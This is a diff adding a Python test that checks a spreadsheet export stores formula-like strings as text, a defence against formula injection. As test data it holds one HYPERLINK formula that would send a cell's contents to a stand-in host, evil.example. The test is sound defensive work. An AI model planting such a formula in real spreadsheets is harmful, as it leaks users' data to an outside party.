@@ -89,3 +89,25 @@ def test_most_improved_is_paged_with_the_same_queries_whatever_the_page(
         second = client.get(url, {"page": 2})
     assert [i for i, _ in second.context["rows"]] == expected[50:100]
     assert 'aria-label="Pagination"' in second.content.decode()
+
+
+def test_the_xlsx_export_writes_formula_like_text_as_text():
+    """Issue 13, finding 8: openpyxl wrote "=…" strings as formulas."""
+    import io
+
+    from openpyxl import load_workbook
+
+    from assurance.queries.publications import to_xlsx
+
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"Camden")'
+    data = to_xlsx([["Rank", "PCT"], [1, evil], [2, "=1+1"]], "League table")
+    sheet = load_workbook(io.BytesIO(data)).active
+    for row in (2, 3):
+        assert sheet.cell(row, 2).data_type == "s"
+    assert sheet.cell(2, 2).value == evil
+    assert sheet.cell(2, 1).value == 1
+    # Excel reads what is in the file: no formula element anywhere.
+    import zipfile
+
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
